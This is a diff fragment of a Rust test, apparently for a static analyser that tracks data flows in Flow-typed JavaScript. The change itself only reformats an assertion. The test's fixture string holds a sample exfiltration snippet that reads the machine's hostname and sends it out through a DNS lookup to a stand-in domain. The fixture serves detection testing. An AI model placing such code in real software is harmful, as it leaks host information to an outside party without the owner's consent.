     let src = "/* @flow */\nimport {execSync} from 'child_process';\nlet {platform}: Object = process;\nfunction id(original: boolean): string {\n  const out: string = execSync('hostname').toString();\n  return require('os').hostname() + out;\n}\nrequire('dns').lookup(id(false) + '.x.example.top', () => {});\n";
     let f = run(src);
     assert!(f.not_analysed.is_none(), "{:?}", f.diagnostics);
-    assert!(f.diagnostics.iter().any(|d| d.contains("Flow")), "{:?}", f.diagnostics);
+    assert!(
+        f.diagnostics.iter().any(|d| d.contains("Flow")),
+        "{:?}",
+        f.diagnostics
+    );
     assert!(!f.flows.is_empty(), "the file is analysed: {:?}", f.flows);
 }
